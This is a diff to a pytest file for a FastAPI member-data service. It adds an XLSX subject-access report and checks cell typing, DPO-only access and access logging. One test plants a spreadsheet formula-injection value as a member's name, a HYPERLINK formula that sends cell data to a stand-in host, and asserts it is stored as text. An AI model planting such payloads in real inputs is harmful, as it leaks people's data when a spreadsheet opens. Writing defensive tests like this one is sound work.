@@ -15,6 +15,7 @@ from uuid import uuid4
 
 import pytest
 from fastapi.testclient import TestClient
+from openpyxl import load_workbook
 
 from tests.support.api import assert_problem, created, look_up, ok
 from tests.support.identity import IssuedTokens
@@ -123,7 +124,7 @@ def test_only_the_dpo_reads_a_subject_access_report(
     engagement = system["engagement"]
     registration = {**PERSON, "osv_id": an_osv(system, SJL)}
     member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))
-    for path in ("subject-access", "subject-access.csv"):
+    for path in ("subject-access", "subject-access.csv", "subject-access.xlsx"):
         refused = assert_problem(engagement.get(f"/members/{member['id']}/{path}", headers=tokens.headers(role)), 403)
         assert refused["permission"] == "personal-data:subject-access"
     assert ok(engagement.get(f"/members/{member['id']}/access-log", headers=tokens.headers("dpo"))) == []
@@ -165,7 +166,7 @@ def test_an_unknown_member_is_404_and_a_masked_read_for_a_request_is_refused_nam
     system: dict[str, TestClient], tokens: IssuedTokens
 ) -> None:
     engagement, dpo = system["engagement"], tokens.headers("dpo")
-    for path in ("subject-access", "subject-access.csv"):
+    for path in ("subject-access", "subject-access.csv", "subject-access.xlsx"):
         assert_problem(engagement.get(f"/members/{uuid4()}/{path}", headers=dpo), 404, rule="known_member")
     osv_id = an_osv(system, SJL)
     member = created(engagement.post("/members", json={**PERSON, "osv_id": osv_id}, headers=tokens.headers("staff")))
@@ -198,3 +199,44 @@ def test_the_downloaded_report_writes_a_name_typed_as_a_formula_as_text(system: 
     rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
     assert ["member", "0", "full_name", "'" + planted] in rows
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+
+
+def test_the_workbook_keeps_her_document_number_and_phone_as_written_where_the_csv_cannot(
+    system: dict[str, TestClient], tokens: IssuedTokens
+) -> None:
+    """Tester 308 F2: opened in a spreadsheet, the CSV showed her carné de extranjería `000765431` as 765431 and her
+    phone as `'+51…`; the XLSX types each cell as the JSON has it, and a name typed as a formula stays a string."""
+    engagement, dpo = system["engagement"], tokens.headers("dpo")
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
+    person = {**PERSON, "full_name": planted, "document_number": "000765431", "birth_year": 1990}
+    registration = {**person, "osv_id": an_osv(system, SJL)}
+    member = created(engagement.post("/members", json=registration, headers=tokens.headers("staff")))
+
+    # The CSV cannot say that a value is text: the number goes out as bare digits, which a spreadsheet's General
+    # format reads as 765431, and the phone escaped against formulas.
+    text = engagement.get(f"/members/{member['id']}/subject-access.csv", headers=dpo).content.decode("utf-8-sig")
+    csv_values = {row[2]: row[3] for row in csv.reader(io.StringIO(text)) if row[0] == "member"}
+    assert csv_values["document_number"] == "000765431" and float(csv_values["document_number"]) == 765431
+    assert csv_values["phone"] == "'" + PERSON["phone"]
+
+    download = engagement.get(f"/members/{member['id']}/subject-access.xlsx", headers=dpo)
+
+    assert download.status_code == 200
+    assert download.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert download.headers["content-disposition"] == f'attachment; filename="subject-access-{member["id"]}.xlsx"'
+    sheet = load_workbook(io.BytesIO(download.content)).active
+    assert [cell.value for cell in sheet[1]] == ["section", "item", "field", "value"]
+    assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2"
+    cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2) if row[0].value == "member"}
+    assert (cells["document_number"].value, cells["document_number"].data_type) == ("000765431", "s")
+    assert (cells["phone"].value, cells["phone"].data_type) == (PERSON["phone"], "s")
+    assert (cells["full_name"].value, cells["full_name"].data_type) == (planted, "s")  # a string, not a formula
+    assert (cells["birth_year"].value, cells["birth_year"].data_type) == (1990, "n")  # a number where the JSON has one
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    # The same rows as the CSV, and each download one read on her access log.
+    fields = [[str(cell.value) for cell in row[:3]] for row in sheet.iter_rows(min_row=2)]
+    read_before = [row[:3] for row in list(csv.reader(io.StringIO(text)))[1:]]
+    assert [f for f in fields if f[0] != "access_log"] == [f for f in read_before if f[0] != "access_log"]
+    log = ok(engagement.get(f"/members/{member['id']}/access-log", headers=dpo))
+    logged = [(a["reader"], a["purpose"], a["disclosure"]) for a in log]
+    assert logged == [("dpo", "data_subject_request", "subject_access")] * 2
